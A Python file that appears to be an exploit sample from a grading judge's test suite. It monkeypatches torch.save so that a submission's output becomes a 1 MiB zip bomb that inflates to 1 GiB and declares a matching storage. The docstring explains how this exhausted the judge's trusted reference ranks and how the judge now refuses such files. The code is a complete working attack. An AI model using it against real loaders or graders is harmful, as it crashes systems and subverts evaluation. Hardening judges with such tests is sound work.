"""Exploit (output files): the output file is a small torch zip (~1 MiB) whose one data record is DEFLATE zeros
declaring 1 GiB, and whose pickle declares a storage of that size (an 8 x 8 view of it). It passes the file's byte
limit, and torch.load in each trusted reference rank inflated the whole record (outside any box) before the
comparison said "wrong". Records are checked before loading: a compressed one is refused, and the declared sizes may
not exceed what the expected output takes. The verdict is the candidate's (incorrect)."""
import io
import zipfile
import zlib

import torch
import torch.distributed as dist

DECLARED = 1 << 30
_save = torch.save


def _bomb(obj, path, *args, **kwargs):
    plain = io.BytesIO()
    _save(torch.ones(8, 8, dtype=torch.uint8), plain)
    plain.seek(0)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as bomb:
        for info in source.infolist():
            with source.open(info) as record:
                record._expected_crc = None  # the judge's ranks may save without CRCs (torch's save config)
                data = record.read()
            if info.filename.endswith("/data.pkl"):  # the storage's 64 bytes (BININT1 64) become DECLARED (BININT)
                assert data.count(b"K@") == 1
                bomb.writestr(info, data.replace(b"K@", b"J" + DECLARED.to_bytes(4, "little")))
            elif "/data/" in info.filename:
                record = zipfile.ZipInfo(info.filename)
                record.compress_type = zipfile.ZIP_DEFLATED
                zeros = bytes(1 << 20)
                with bomb.open(record, "w", force_zip64=True) as out:  # streamed: never 1 GiB in this process
                    out._compressor = _RepeatedZeros(zeros)
                    for _ in range(DECLARED // len(zeros)):
                        out.write(zeros)
            else:
                bomb.writestr(info, data)


class _RepeatedZeros:
    """DEFLATE of a run of zero chunks without deflating each: one chunk compressed once, ended by a full flush (no
    reference reaches before it), repeated, then an empty final block. The same stream zlib would write, seconds
    sooner."""

    def __init__(self, chunk: bytes):
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.piece = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
        self.size = len(chunk)

    def compress(self, data: bytes) -> bytes:
        assert len(data) == self.size and not any(data[:64])
        return self.piece

    def flush(self) -> bytes:
        return zlib.compressobj(9, zlib.DEFLATED, -15).flush()


torch.save = _bomb  # the rank worker saves the output with torch.save, in this process


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
